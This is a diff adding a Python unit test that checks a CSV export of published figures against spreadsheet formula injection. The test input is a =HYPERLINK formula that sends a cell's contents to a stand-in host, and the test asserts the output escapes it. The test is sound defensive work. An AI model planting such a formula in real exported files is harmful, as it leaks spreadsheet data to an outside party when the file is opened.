@@ -68,6 +68,14 @@ def test_nothing_published_is_an_empty_table(tmp_path: Path) -> None:
     assert main(["figures", str(tmp_path / "answer.json"), str(tmp_path / "out")]) == 1
 
 
+def test_a_place_that_is_written_as_a_formula_is_none_in_the_file() -> None:
+    named = '=HYPERLINK("http://leads.example/?"&A1,"x")'
+    figures = files_of({"cubes": {"city": {named: 40}, "record_type*city": {f"ad|{named}": 33}}, "published": 0})
+    rows = list(csv.DictReader(figures["figures.csv"].decode("utf-8").splitlines()))
+    assert {row["place"] for row in rows if row["place"]} == {f"'{named}"}
+    assert [each for row in rows for each in row.values() if each[:1] in set("=+-@")] == []
+
+
 def test_the_page_states_the_band_that_the_noise_of_a_figure_leaves() -> None:
     ratio = math.exp(-1 / SCALE)
     one = {each: (1 - ratio) / (1 + ratio) * ratio ** abs(each) for each in range(-200, 201)}
